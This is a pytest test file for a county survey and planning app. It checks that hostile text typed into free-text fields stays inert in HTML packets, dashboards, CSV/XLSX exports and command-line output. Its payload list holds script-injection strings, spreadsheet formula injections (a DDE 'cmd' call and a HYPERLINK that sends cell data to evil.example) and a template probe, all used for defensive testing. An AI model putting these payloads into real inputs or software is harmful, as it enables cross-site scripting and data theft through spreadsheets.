"""Hostile text typed into every free-text field stays inert wherever the product shows or exports it.

The strings go in through the functions the widgets call (``workbook.save``)
and the survey path (``store.add_responses``); then the packets (HTML and
PDF), the statewide index and every export are built, and read back the way
a browser (``html.parser``) and a spreadsheet (``csv``, openpyxl) read them.
"""

import csv
import datetime as dt
import io
import os
from html.parser import HTMLParser

import openpyxl
import pytest

from orb_widgets import packets, webinar, workbook
from orb_widgets.app import App
from orb_widgets.cli import main
from orb_widgets.exports import spreadsheet_safe, table_bytes
from orb_widgets.instrument import tailor
from orb_widgets.paths import unique_slug
from orb_widgets.store import NewResponse

SCRIPT = "<script>alert(1)</script>"
BREAKER = '"><img src=x onerror=alert(1)>'
TITLE = 'Plan"><script>alert(1)</script><b x="'
HOSTILE = [
    SCRIPT,
    BREAKER,
    TITLE,
    '=HYPERLINK("http://evil.example/?x="&A1, "open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+2",
    "\t=1+2",
    "\r=1+2",
    "lone \ud800 surrogate",
    "$x^2$ {{7*7}} & </td></table>",
]
LONG = ("=1+1 " + SCRIPT + " ") * 300  # ~9,000 characters
COUNTY = 'Hostile "><img src=x onerror=alert(2)> County'


def short(i):
    return HOSTILE[i % len(HOSTILE)]


def text(i):
    return LONG if i % 5 == 4 else HOSTILE[i % len(HOSTILE)]


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    os.environ.pop("ORB_DATABASE_URL", None)
    folder = tmp_path_factory.mktemp("hostile-ws")
    store = App.for_workspace(folder, create=True).store
    inst = tailor("cpm-orb", county=COUNTY, elements=["A", "B"], points=5, min_group=5)
    store.save_instrument(inst)
    roles = [r.id for r in inst.roles]
    clean = [t for t in HOSTILE if "\ud800" not in t]  # the store cannot take a lone surrogate yet (see below)
    store.add_responses(
        COUNTY,
        "2026-spring",
        [
            NewResponse(
                role=roles[k % len(roles)],
                answers={i.id: 1 + k % 5 for i in inst.items},
                comments={"A": clean[k % len(clean)], "B": LONG},
            )
            for k in range(12)
        ],
        instrument=inst,
        source="test",
    )

    def save(kind, key, body):
        workbook.save(store, COUNTY, kind, key, body, user=BREAKER)

    n = iter(range(1000))
    # the coach's webinar: every room holds one of the county's people, so the packet shows each room
    event = webinar.new_event(
        store, short(next(n)), dt.date(2026, 3, 2), BREAKER, prompts=HOSTILE[:3], rooms=len(HOSTILE)
    )
    for k in range(len(HOSTILE)):
        webinar.save_room(
            store,
            event,
            k,
            {
                "event": event,
                "name": HOSTILE[k],
                "facilitator": short(next(n)),
                "reporter": short(next(n)),
                "notes": {1: text(next(n)), 2: text(next(n))},
                "takeaway": text(next(n)),
                "people": [
                    {
                        "name": short(next(n)),
                        "county": COUNTY,
                        "role": short(next(n)),
                        "steps": [text(next(n)), text(next(n))],
                    }
                ],
            },
            BREAKER,
        )
    save(
        "key_message",
        "m1",
        {
            "title": TITLE,
            "versions": [{"version": 1, "text": text(next(n))}],
            "tests": [
                {
                    "version": 1,
                    "audience": short(next(n)),
                    "event": short(next(n)),
                    "people": 4,
                    "ratings": {short(next(n)): 4},
                    "feedback": text(next(n)),
                }
                for _ in range(4)
            ],
        },
    )
    for target in ["A", "B", "component:1"]:
        save(
            "matrix_row",
            target,
            {
                "target": target,
                "what_we_learned": text(next(n)),
                "why_it_matters": text(next(n)),
                "next_steps": [short(next(n)), text(next(n))],
                "who": short(next(n)),
                "support_needed": text(next(n)),
                "how_we_will_know": text(next(n)),
                "by_when": "2026-06-01",
            },
        )
    save(
        "testing_profile",
        "main",
        {
            "buddy_county": short(next(n)),
            "sections": {"a": text(next(n)), short(next(n)): text(next(n))},
            "buddy": {"i": text(next(n)), short(next(n)): text(next(n))},
        },
    )
    save(
        "plan",
        "main",
        {
            "vision": text(next(n)),
            "goals": [text(next(n)) for _ in range(3)],
            "effect_measures": [short(next(n))],
            "activities": [{"what": text(next(n)), "who": short(next(n))} for _ in range(3)],
            "competence": {short(next(n)): {"now": 0.2, "target": 0.5}},
        },
    )
    save(
        "followup",
        dt.date(2026, 4, 1).isoformat(),
        {
            "date": "2026-04-01",
            **{k: [text(next(n)), short(next(n))] for k in ("keep", "improve", "start", "stop", "carried")},
        },
    )
    return {"folder": folder, "store": store, "event": event}


class Page(HTMLParser):
    """What a browser would run in a page, and the text it would show."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.live, self.text, self.alts = [], [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "iframe", "object", "embed"}:
            self.live.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.live.append(f"{tag} {name}")
            if name in ("alt", "title"):
                self.alts.append(value)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def test_workbook_stores_a_lone_surrogate_as_a_replacement_character(ws):
    vision = workbook.load(ws["store"], COUNTY, "plan", "main").vision
    assert "\ud800" not in vision and ("\ufffd" in vision or vision == LONG)
    rooms = webinar.rooms(ws["store"], ws["event"])
    assert "lone \ufffd surrogate" in [r.name for r in rooms]


def test_survey_comment_with_a_lone_surrogate_is_stored(ws):
    inst = ws["store"].current_instrument(COUNTY)
    ws["store"].add_responses(
        COUNTY,
        "2026-fall",
        [NewResponse(role=inst.roles[0].id, answers={}, comments={"A": "broken \ud800 emoji"})],
        instrument=inst,
        source="test",
    )


def test_packets_and_index_run_no_hostile_text(ws, tmp_path):
    out = tmp_path / "packets"
    report = packets.run_packets(ws["folder"], out=out, pdf=True, progress=False, workers=1)
    assert report.ok, report.summary()
    page = (out / f"{unique_slug(COUNTY)}.html").read_text("utf-8")
    seen = Page(page)
    assert seen.live == []
    shown = "".join(seen.text)
    # shown as typed, in every section that holds free text
    assert SCRIPT in shown and BREAKER in shown and "=cmd|' /C calc'!A0" in shown and COUNTY in shown
    assert "lone \ufffd surrogate" in shown
    assert any(TITLE in (a or "") for a in seen.alts), "the chart's alternative text keeps the title as typed"
    assert (out / f"{unique_slug(COUNTY)}.pdf").read_bytes().startswith(b"%PDF")

    index = Page((out / "index.html").read_text("utf-8"))
    assert index.live == [] and COUNTY in "".join(index.text)


def test_section_html_runs_no_hostile_text(ws):
    packet = packets.Packet(ws["store"], COUNTY)
    for name in packets.SECTIONS:
        assert Page(packet.section_html(name)).live == [], name


def formula_cells(cells):
    bad = []
    for value in cells:
        if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(value)
            except ValueError:
                bad.append(value[:40])
    return bad


def csv_cells(data: bytes):
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def xlsx_cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def test_exports_hold_no_live_formula(ws, tmp_path, capsys):
    for suffix, read in ((".csv", csv_cells), (".xlsx", xlsx_cells)):
        path = tmp_path / f"matrix{suffix}"
        assert main(["plan", "--workspace", str(ws["folder"]), "--county", COUNTY, "--out", str(path)]) == 0
        cells = read(path.read_bytes())
        assert formula_cells(cells) == []
        assert any(str(c).startswith(("'=", "'@", "'+")) for c in cells)  # kept as typed, made inert
    # the coach's webinar exports are checked in test_webinar.py


def test_negative_numbers_stay_numbers():
    import pandas as pd

    df = pd.DataFrame({"note": ["-3", "-1+2", "+1"], "gap": [-0.25, 1.0, -2.0]})
    assert csv_cells(table_bytes(df, "csv")) == ["note", "gap", "-3", "-0.25", "'-1+2", "1.0", "'+1", "-2.0"]
    values = xlsx_cells(table_bytes(df, "xlsx"))
    assert values[3] == -0.25 and isinstance(values[3], float) and values[2] == "-3"
    assert spreadsheet_safe("\r=1") == "'\r=1" and spreadsheet_safe(None) is None


def test_command_line_text_is_inert(ws, capsys):
    """`orb score` and `orb plan` print the county's words as typed, in plain lines, nothing a terminal runs."""
    import re

    for cmd in ("score", "plan"):
        assert main([cmd, "--workspace", str(ws["folder"]), "--county", COUNTY]) == 0
        out = capsys.readouterr().out
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", out), cmd
        assert max(len(line) for line in out.splitlines()) <= 100, cmd
        assert "&lt;" not in out and "&#" not in out  # plain text, not escaped HTML
        assert COUNTY.split()[0] in out
    assert "<script>alert(1)</script>" in out.replace("\n", "")  # the matrix's words, as typed


def test_served_dashboard_is_inert(ws):
    from orb_widgets.widgets.context import WorkbookContext
    from orb_widgets.widgets.results import ResultsDashboard

    page = ResultsDashboard(WorkbookContext(ws["store"], COUNTY, user=BREAKER, remember=False))
    page.wave.value = "2026-spring"  # the wave with the hostile comments (a later test may add another)
    for index in range(len(page.tabs.children)):  # each tab is filled when it is opened
        page.tabs.selected_index = index
    assert page.results is not None and page.results.county == COUNTY and not page.results.suppressed
    for part in (page.headline, page.overview, page.priorities, page.roles, page.over_time, page.detail):
        parsed = Page(part.value)
        assert parsed.live == [], parsed.live
    assert SCRIPT in "".join(Page(page.detail.value).text)  # a comment, shown as words
